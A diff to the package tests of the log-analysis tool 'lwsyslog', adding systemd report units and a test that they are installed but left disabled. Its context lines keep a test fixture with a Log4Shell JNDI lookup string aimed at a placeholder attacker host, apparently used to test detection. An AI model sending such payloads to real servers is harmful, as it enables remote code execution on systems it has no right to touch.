@@ -46,6 +46,8 @@ PACKAGE_PATHS = (
     COMPLETIONS / "lwsyslog-omprog",
     Path("/usr/share/doc/lwsyslog"),
     Path("/usr/share/lintian/overrides/lwsyslog"),
+    Path("/lib/systemd/system/lwsyslog-report.service"),
+    Path("/lib/systemd/system/lwsyslog-report.timer"),
 )
 LOG4SHELL = (
     '203.0.113.9 - - [05/Dec/2026:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} '
@@ -221,6 +223,17 @@ def test_man_pages_and_completion(installed_package: debpkg.Installer) -> None:
         '_shtab_lwsyslog; echo "${COMPREPLY[@]}"',
     ).stdout.split()
     assert completed == ["check-config"]
+
+
+def test_daily_report_timer_is_installed_and_left_disabled(
+    installed_package: debpkg.Installer,
+) -> None:
+    units = Path("/lib/systemd/system")
+    service = (units / "lwsyslog-report.service").read_text()
+    assert "ExecStart=/usr/bin/lwsyslog report --since 24h --mail" in service
+    assert "OnCalendar=" in (units / "lwsyslog-report.timer").read_text()
+    # Disabled: it needs an e-mail channel first (docs/alerts.md says how to enable it).
+    assert not list(Path("/etc/systemd/system").rglob("lwsyslog-report.timer"))
 
 
 def test_logrotate_rotates_every_file(installed_package: debpkg.Installer, tmp_path: Path) -> None:
